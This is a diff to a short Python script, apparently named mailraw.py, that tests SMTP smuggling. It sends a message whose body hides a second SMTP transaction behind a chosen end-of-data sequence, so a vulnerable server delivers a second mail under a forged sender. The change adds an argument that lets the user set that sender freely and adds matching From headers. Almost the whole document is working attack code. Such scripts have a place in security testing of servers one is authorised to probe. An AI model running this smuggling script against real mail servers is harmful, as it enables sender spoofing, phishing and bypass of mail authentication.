@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""mailraw.py SERVER PORT RECIPIENT NAME END: a message with a second one inside, behind END (as in "\\n.\\n").
+"""mailraw.py SERVER PORT RECIPIENT NAME END [SENDER]: a message with a second one inside, behind END (as in "\\n.\\n").
 
 If the server takes END for the end of the message, what follows becomes commands, and a mail of the subject smuggled-NAME
 comes out, sent by whomever it says. Prints the answers.
@@ -8,8 +8,9 @@ import socket
 import sys
 
 server, port, recipient, name, end = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5].encode().decode("unicode_escape")
-envelope = f"MAIL FROM:<s@elsewhere.example>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
-inner = f"{envelope}Subject: smuggled-{name}\r\n\r\nsecond\r\n.\r\nQUIT\r\n"
+sender = sys.argv[6] if len(sys.argv) > 6 else "s@elsewhere.example"
+envelope = f"MAIL FROM:<{sender}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
+inner = f"{envelope}From: {sender}\r\nSubject: smuggled-{name}\r\n\r\nsecond\r\n.\r\nQUIT\r\n"
 with socket.create_connection((server, port), timeout=20) as session:
     answers = session.makefile("rb")
 
@@ -25,6 +26,6 @@ with socket.create_connection((server, port), timeout=20) as session:
     says("EHLO raw.example\r\n")
     for line in envelope.splitlines():
         says(line + "\r\n")
-    session.sendall(f"Subject: outer-{name}\r\n\r\nfirst{end}{inner}".encode())
+    session.sendall(f"From: {sender}\r\nSubject: outer-{name}\r\n\r\nfirst{end}{inner}".encode())
     session.shutdown(socket.SHUT_WR)
     sys.stdout.write(answers.read().decode("latin1"))
